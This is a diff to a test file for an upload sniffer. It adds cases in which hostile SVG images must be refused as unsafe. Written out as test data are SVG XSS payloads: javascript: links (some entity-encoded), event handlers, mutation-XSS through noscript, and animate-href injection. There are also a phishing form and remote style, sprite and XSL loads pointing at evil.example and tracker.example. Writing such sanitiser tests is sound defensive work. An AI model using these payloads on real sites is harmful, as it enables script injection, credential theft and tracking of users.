@@ -68,6 +68,51 @@ describe('sniffMedia: the type comes from the bytes', () => {
     expect(await sniffMedia(Buffer.from(svg))).toEqual({ ok: false, code: 'unsafe_svg' });
   });
 
+  // Cases the former regex deny-list let through (it named patterns, not what a parser builds):
+  // DOMPurify's svg allow-list and the checks on what it lets through by design refuse them.
+  it.each([
+    // HTML after the svg's end: a phishing form on the page that inlines the icon.
+    '<svg xmlns="http://www.w3.org/2000/svg"><p></p><form action="https://evil.example/login"><input name="password"></form></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><use href="https://evil.example/sprite.svg#icon"/></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><style>@\\69mport url(https://evil.example/x.css);</style></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><style>a{background:url(https://tracker.example/p.png)}</style></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(&quot;https://tracker.example/p&quot;)"/></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><title></title><noscript><p title="</noscript><img src=x>"></p></noscript></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?></svg>',
+  ])('refuses what a regex deny-list misses as unsafe_svg: %s', async (svg) => {
+    expect(hasActiveContent(svg)).toBe(true);
+    expect(await sniffMedia(Buffer.from(svg))).toEqual({ ok: false, code: 'unsafe_svg' });
+  });
+
+  it.each([
+    '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
+    '<svg><a xlink:href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a></svg>',
+    '<svg><foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject></svg>',
+    '<svg><g OnMouseOver="alert(1)"/></svg>',
+    '<svg><rect oNcLiCk  =  "alert(1)"/></svg>',
+    '<svg><use href="data:image/svg+xml,%3Csvg%20id=%22x%22/%3E#x"/></svg>',
+    '<svg><style>rect{background:url(javascript:alert(1))}</style></svg>',
+    '<svg><style><img src=x onerror=alert(1)></style></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><use xlink:href="data:image/svg+xml;base64,PHN2Zz4="/></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><animate attributeName="href" values="https://x;javascript:alert(1)"/></svg>',
+  ])('refuses the usual svg attacks as unsafe_svg: %s', async (svg) => {
+    expect(hasActiveContent(svg)).toBe(true);
+    expect(await sniffMedia(Buffer.from(svg))).toEqual({ ok: false, code: 'unsafe_svg' });
+  });
+
+  it('keeps what editors export: Inkscape metadata, sprites, filters, xml:space', () => {
+    const svg =
+      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ' +
+      'xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" ' +
+      'xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" ' +
+      'inkscape:version="1.3" xml:space="preserve" viewBox="0 0 10 10">' +
+      '<sodipodi:namedview id="view" inkscape:zoom="2"/>' +
+      '<defs><filter id="f"><feGaussianBlur stdDeviation="1"/></filter>' +
+      '<symbol id="dot"><circle r="1" style="fill:url(#g)"/></symbol></defs>' +
+      '<g inkscape:label="Layer 1" filter="url(#f)"><use href="#dot"/><use xlink:href="#dot"/></g></svg>';
+    expect(hasActiveContent(svg)).toBe(false);
+  });
+
   it('keeps harmless svg features: styles, gradients, metadata, embedded png data', () => {
     const svg =
       '<svg xmlns="http://www.w3.org/2000/svg"><metadata>made online</metadata><defs>' +
